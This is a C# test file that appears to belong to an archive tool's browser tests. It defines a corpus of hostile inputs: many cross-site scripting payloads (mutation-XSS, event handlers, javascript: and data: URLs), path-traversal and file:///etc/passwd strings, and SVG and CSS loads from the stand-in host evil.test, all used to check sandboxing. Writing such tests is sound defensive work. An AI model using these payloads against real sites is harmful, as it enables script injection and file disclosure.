namespace ArchiveTool.Browser.Tests;

/// <summary>What a post can hold to run a script, to reach the network, or to reach a file beyond its library.</summary>
internal static class AttackCorpus
{
    /// <summary>What a script does that ran.</summary>
    public const string Script = "window.owned=1;document.title=/owned/";

    /// <summary>Addresses of something elsewhere, as a parser may read them.</summary>
    public static readonly string[] Addresses =
    [
        "https://evil.test/a.png",
        "//evil.test/b.png",
        "\\\\evil.test\\c.png",
        "/\\evil.test/d.png",
        "ht\ttps://evil.test/e.png",
        " https://evil.test/f.png",
        "https&colon;//evil.test/g.png",
        "file://evil.test/share/h.png",
        "file:///etc/passwd",
        "/outside.png",
        "../../../outside.png",
        "../../assets/../../outside.png",
        "../../assets/.%2e/.%2e/outside.png",
        "../../assets/%2e%2e/%2E./outside.png",
        "../../assets/..\\..\\outside.png",
        "../../assets/.\t./.\n./outside.png",
        "../../assets/&period;&period;/&#46;&#x2e;/outside.png",
        "..\\..\\..\\outside.png",
        "../../thumbnails/320/../../../outside.png",
        "../../assets/aa/x.html",
        "../../library.json",
        "../other/original.html",
        "javascript:" + Script,
        "java\tscript:" + Script,
        "data:text/html,<script>" + Script + "</script>",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='" + Script + "'/>",
        "https://evil.test/hostile.svg",
        "https://evil.test/hostile.css",
    ];

    /// <summary>Where an address can stand in HTML; <c>{0}</c> is a double-quoted attribute's value.</summary>
    public static readonly string[] Places =
    [
        "<img src=\"{0}\">",
        "<img srcset=\"{0} 1x, {0} 2x\" src=\"data:,\">",
        "<img data-src=\"{0}\">",
        "<img src=\"data:,\" lowsrc=\"{0}\" dynsrc=\"{0}\" longdesc=\"{0}\">",
        "<picture><source srcset=\"{0}\"><img src=\"{0}\"></picture>",
        "<a href=\"{0}\" ping=\"{0}\">link</a>",
        "<map name=m><area href=\"{0}\" shape=default></map><img usemap=\"#m\" src=\"{0}\">",
        "<video src=\"{0}\" poster=\"{0}\" autoplay><track src=\"{0}\" default></video>",
        "<audio src=\"{0}\" autoplay></audio><video><source src=\"{0}\"></video>",
        "<embed src=\"{0}\"><object data=\"{0}\" codebase=\"{0}\"><param name=movie value=\"{0}\"></object>",
        "<iframe src=\"{0}\" srcdoc=\"<img src='{0}'>\"></iframe><portal src=\"{0}\"></portal><fencedframe src=\"{0}\"></fencedframe>",
        "<link rel=stylesheet href=\"{0}\"><link rel=\"preload\" as=image href=\"{0}\" imagesrcset=\"{0}\">",
        "<link rel=\"icon prefetch preconnect dns-prefetch modulepreload prerender manifest import\" href=\"{0}\">",
        "<base href=\"{0}\"><meta http-equiv=refresh content=\"0;url={0}\"><meta http-equiv=Link content=\"<{0}>;rel=preload\">",
        "<form action=\"{0}\"><input type=image src=\"{0}\" formaction=\"{0}\"><button formaction=\"{0}\">send</button></form>",
        "<table background=\"{0}\"><tr background=\"{0}\"><td background=\"{0}\">cell</table>",
        "<body background=\"{0}\"><html manifest=\"{0}\">",
        "<blockquote cite=\"{0}\">q</blockquote><q cite=\"{0}\">q</q><ins cite=\"{0}\">i</ins>",
        "<svg><image href=\"{0}\" xlink:href=\"{0}\"/><feImage href=\"{0}\"/><use href=\"{0}#a\"/><a xlink:href=\"{0}\"><text>t</text></a></svg>",
        "<svg><rect fill=\"url({0}#a)\" filter=\"url('{0}#a')\" style=\"mask:url({0}#m)\"/><script href=\"{0}\"></script></svg>",
        "<svg><a><animate attributeName=href values=\"{0}\"/><set attributeName=xlink:href to=\"{0}\"/><text>t</text></a></svg>",
        "<svg><rect width=9 height=9><set attributeName=fill to=\"url({0}#a)\"/><animate attributeName=filter values=\"url({0}#a)\"/></rect></svg>",
        "<svg><foreignObject><iframe src=\"{0}\"></iframe></foreignObject><linearGradient href=\"{0}\"/><mpath href=\"{0}\"/></svg>",
        "<math href=\"{0}\"><maction actiontype=\"statusline#x\" xlink:href=\"{0}\"><mi xlink:href=\"{0}\">x</mi></maction></math>",
        "<script src=\"{0}\"></script><script type=module>import \"{0}\"</script>",
        "<p style=\"background:url({0})\">s</p><p style='background:url(&quot;{0}&quot;)'>s</p>",
        "<p style=\"background:image-set('{0}' 1x)\">s</p><p style=\"background:-webkit-image-set(url({0}) 1x)\">s</p>",
        "<p style=\"--x:'{0}';background:image-set(var(--x) 1x)\">s</p><p style=\"--x:url({0});background:var(--x)\">s</p>",
        "<p title=\"{0}\" style=\"background:image-set(attr(title) 1x)\">s</p><p style=\"background:src('{0}')\">s</p>",
        "<p style=\"list-style:url({0});cursor:url({0}),auto;content:url({0});border-image:url({0}) 1\">s</p>",
        "<p style=\"background:u\\72 l({0});shape-outside:url({0});-webkit-mask:url({0});offset-path:url({0})\">s</p>",
        "<style>@import \"{0}\"; @import url({0}) print; @\\69mport '{0}';</style>",
        "<style>@namespace x url({0}); @font-face {{ font-family: q; src: url({0}) }} .q {{ font-family: q; background: url( \"{0}\" ) }}</style><b class=q>q</b>",
        "<style>:root {{ --z: \"{0}\" }} .z {{ background: image-set(var(--z) 1x), cross-fade(url({0}), url({0})) }}</style><b class=z>z</b>",
        "<style>@property --p {{ syntax: \"*\"; inherits: true; initial-value: \"{0}\" }} .p {{ background: image-set(var(--p) 1x) }}</style><b class=p>p</b>",
        "<style>.n {{ &:hover, & {{ background: /**/url(/**/{0}) }} @media all {{ background: URL({0}) }} }}</style><b class=n>n</b>",
        "<style>.c::after {{ content: image-set(\"{0}\" 1x) / \"x\" }} .c {{ filter: url({0}#f); behavior: url({0}) }}</style><b class=c>c</b>",
        "<style><!-- .d {{ background: url({0} --></style><svg><style>.e {{ background: &#117;rl({0}) }}</style></svg><b class=e>e</b>",
        "<frameset><frame src=\"{0}\"></frameset><bgsound src=\"{0}\"><applet code=\"{0}\" archive=\"{0}\"></applet>",
        "<input list=l src=\"{0}\"><menuitem icon=\"{0}\"><layer src=\"{0}\"></layer><xml src=\"{0}\"></xml>",
        "<a href=\"../../assets/aa/x.png\" attributionsrc=\"{0}\" download=\"{0}\">d</a><div itemscope itemtype=\"{0}\" itemid=\"{0}\"></div>",
        "<p xml:base=\"{0}\"><a href=\"x\">x</a></p>",
    ];

    /// <summary>Scripts, each in its way; <c>{0}</c> is the script.</summary>
    public static readonly string[] Scripts =
    [
        "<script>{0}</script>",
        "<script/x>{0}</script/>",
        "<<script></script>script>{0}<<script></script>/script>",
        "<img src=x onerror=\"{0}\">",
        "<img src=x oNeRRor =\"{0}\">",
        "<p onclick=\"{0}\" onmouseover=\"{0}\" onfocus=\"{0}\" tabindex=0>handlers</p>",
        "<svg onload=\"{0}\"><script>{0}</script><animate onbegin=\"{0}\" attributeName=x dur=1s /></svg>",
        "<svg><style><img src=x onerror=\"{0}\"></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"{0}\"></style></mglyph></table></mtext></math>",
        "<math><style><!--</style><img src=x onerror=\"{0}\">--></math>",
        "<svg></p><style><a id=\"</style><img src=x onerror='{0}'>\"></svg>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=\"{0}\"></style>",
        "<noscript><p title=\"</noscript><img src=x onerror='{0}'>\"></noscript>",
        "<textarea><img title=\"</textarea><img src=x onerror='{0}'>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror='{0}'>\"></title>",
        "<xmp><img title=\"</xmp><img src=x onerror='{0}'>\"></xmp>",
        "<!--><img src=x onerror=\"{0}\">--><!--!><img src=x onerror=\"{0}\">--!>",
        "<![CDATA[><img src=x onerror=\"{0}\">]]>",
        "<?x ><img src=x onerror=\"{0}\">?>",
        "<template shadowrootmode=open><img src=x onerror=\"{0}\"><script>{0}</script></template>",
        "<details open ontoggle=\"{0}\"><summary onclick=\"{0}\">s</summary></details>",
        "<iframe srcdoc=\"&lt;script>parent.owned=1&lt;/script>\"></iframe>",
        "<object data=\"data:text/html,<script>parent.owned=1</script>\"></object>",
        "<a href=\"javascript:{0}\">j</a><a href=\" &#1;javascript:{0}\">j</a><a href=\"java&Tab;script&colon;{0}\">j</a>",
        "<a href=\"vbscript:{0}\">j</a><a href=\"data:text/html,<script>opener.owned=1</script>\" target=_blank>d</a>",
        "<svg><a xlink:href=\"javascript:{0}\"><rect width=99 height=99 /></a><use href=\"data:image/svg+xml,<svg id='x' onload='{0}'/>#x\"/></svg>",
        "<form action=\"javascript:{0}\"><button>b</button><input type=submit formaction=\"javascript:{0}\"></form>",
        "<button popovertarget=po>open</button><div id=po popover onbeforetoggle=\"{0}\" ontoggle=\"{0}\">p</div>",
        "<button commandfor=dd command=show-modal>open</button><dialog id=dd onclose=\"{0}\">d</dialog>",
        "<marquee onstart=\"{0}\">m</marquee><video onerror=\"{0}\" src=x></video><audio src=x onerror=\"{0}\"></audio>",
        "<style onload=\"{0}\">p {{}}</style><link rel=stylesheet href=x onerror=\"{0}\"><body onload=\"{0}\" onpageshow=\"{0}\">",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><meta http-equiv=refresh content=\"0;javascript:{0}\">",
        "<p style=\"animation:x 1ms\" onanimationstart=\"{0}\">a</p><style>@keyframes x {{}}</style>",
        "<input autofocus onfocus=\"{0}\"><select autofocus onfocus=\"{0}\"><option>o</select>",
        "</archived-post></main><script>{0}</script><main><archived-post>",
        "<archived-post onclick=\"{0}\"></archived-post><embed src=\"javascript:{0}\">",
    ];

    /// <summary>A drawing that runs and loads in every way when it is opened by itself.</summary>
    public const string Drawing = $"""
        <?xml version="1.0"?>
        <?xml-stylesheet href="https://evil.test/x.xsl" type="text/xsl"?>
        <!DOCTYPE svg [<!ENTITY run "<script xmlns='http://www.w3.org/2000/svg'>{Script}</script>">
        <!ATTLIST svg onload CDATA "{Script}">]>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="30"
             xmlns:h="http://www.w3.org/1999/xhtml" xmlns:s="http://www.w3.org/2000/svg" xml:base="https://evil.test/">
        <script>{Script}</script><s:script>{Script}</s:script><h:script>{Script}</h:script>&run;
        <script href="https://evil.test/x.js"/><h:img src="x" onerror="{Script}"/>
        <foreignObject width="40" height="30"><h:iframe src="https://evil.test/"/></foreignObject>
        <style>@import "https://evil.test/x.css"; rect {"{"} fill: url(https://evil.test/x.svg#a) {"}"}</style>
        <metadata><x><h:script>{Script}</h:script></x></metadata>
        <a xlink:href="javascript:{Script}"><rect width="40" height="30" fill="#369" onclick="{Script}"/>
        <animate attributeName="href" values="javascript:{Script}"/></a>
        <image href="https://evil.test/x.png"/><use href="https://evil.test/x.svg#a"/><use xlink:href="../../../outside.svg#a"/>
        <set attributeName="onclick" to="{Script}"/><rect style="filter:url(//evil.test/x.svg#a)"/>
        <text onmouseover="{Script}">drawn</text>
        </svg>
        """;

    /// <summary>A style sheet that asks for what lies elsewhere, and lies over everything.</summary>
    public const string Sheet = """
        @import url(https://evil.test/again.css); @import "../../../outside.css";
        :root { --v: "https://evil.test/v.png" }
        p { background: image-set(var(--v) 1x), url("file://evil.test/s/p.png"), url(../../../outside.png) }
        b { background: url(..\5c..\5c..\5coutside.png), url(.\2e/.\2e/.\2e/outside.png), url(.%2e/%2e./.%2e/outside.png) }
        """;
}
